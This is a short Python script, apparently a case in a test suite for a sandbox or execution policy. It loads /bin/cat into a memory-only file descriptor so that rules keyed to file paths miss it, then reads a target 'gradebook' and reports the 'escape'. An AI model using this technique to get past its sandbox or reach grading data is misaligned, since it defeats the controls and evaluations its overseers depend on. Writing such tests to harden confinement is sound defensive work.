"""Runs a program that exists in no file system, so that rules about files do not know it."""

import os
import subprocess

from attack import escaped, target, tries


def run():
    program = os.memfd_create("program", 0)
    os.write(program, open("/bin/cat", "rb").read())
    read = subprocess.run([f"/proc/self/fd/{program}", target.gradebook], pass_fds=[program], capture_output=True)
    escaped(read.stdout.decode())


tries(run)
